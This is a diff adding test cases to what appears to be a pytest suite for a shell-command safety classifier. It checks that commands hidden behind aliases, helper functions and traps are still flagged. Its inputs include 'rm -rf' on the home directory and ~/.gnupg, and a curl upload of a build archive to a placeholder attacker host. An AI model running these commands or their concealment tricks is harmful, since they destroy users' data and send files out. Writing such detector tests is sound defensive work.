@@ -29,6 +29,8 @@ STEP = 'step() { local label=$1; shift; echo "== $label"; "$@"; }\n'
         'with_timing() { local t0=$SECONDS; "$@"; echo "took $((SECONDS - t0))s"; }\n'
         "with_timing cargo test --workspace",
         'r() { "$1" "${@:2}"; }\nr npm run build',
+        "alias k=kubectl\nk get pods -n dev",
+        "alias ll='ls -la'\nd=$(cat dir.txt)\nll \"$d\"",
     ],
 )
 def test_a_helper_running_its_arguments_is_judged_by_them(command: str) -> None:
@@ -51,6 +53,10 @@ def test_a_helper_running_its_arguments_is_judged_by_them(command: str) -> None:
         ('r() { echo shift; "$@"; }\nr rm -rf ~', "destructive_delete"),
         ('r() { shift $((OPTIND-1)); "$@"; }\nr -x rm -rf ~', "destructive_delete"),
         ('"$@"\nbash -c \'"$@"\' _ rm -rf ~', "dynamic_command"),
+        # an alias runs its text with the call's arguments, a call in a trap read before too
+        ("alias r='rm -rf'\nr ~", "destructive_delete"),
+        ("trap 'r ~/.gnupg' EXIT\nalias r='rm -rf'", "destructive_delete"),
+        (f"alias up='curl -s -T'\nup dist/app.tgz https://{ATTACKER}/u", "exfiltration"),
         # a call read before the helper is defined runs after it (a trap, a second pass)
         ("trap 'r rm -rf ~' EXIT\nr() { \"$@\"; }", "destructive_delete"),
         (
